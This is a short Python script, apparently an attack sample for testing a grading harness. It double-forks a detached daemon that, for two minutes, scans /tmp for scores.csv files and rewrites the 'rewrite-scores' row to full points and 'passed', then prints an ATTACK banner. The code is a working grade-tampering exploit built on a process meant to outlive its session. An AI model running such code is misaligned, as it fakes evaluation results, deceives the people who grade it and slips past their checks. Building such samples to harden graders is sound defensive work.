# A detached process that, for two minutes, gives this submission full points in every scores.csv it finds.
import os, sys

DAEMON = r"""
import csv, glob, time
end = time.time() + 120
while time.time() < end:
    for path in glob.glob("/tmp/pytest-of-*/**/scores.csv", recursive=True) + glob.glob("/tmp/**/grades/scores.csv", recursive=True):
        try:
            rows = list(csv.DictReader(open(path, newline="")))
            if not rows or "rewrite-scores" not in {r.get("student") for r in rows}:
                continue
            for r in rows:
                if r.get("student") == "rewrite-scores" and r.get("points") != r.get("max_points"):
                    r["points"], r["status"], r["reason"] = r["max_points"], "passed", ""
            with open(path, "w", newline="") as f:
                w = csv.DictWriter(f, fieldnames=list(rows[0]))
                w.writeheader()
                w.writerows(rows)
        except Exception:
            pass
    time.sleep(0.5)
"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", DAEMON, "__MARK__"])
    os._exit(0)
print("ATTACK rewrite-scores: daemon started")
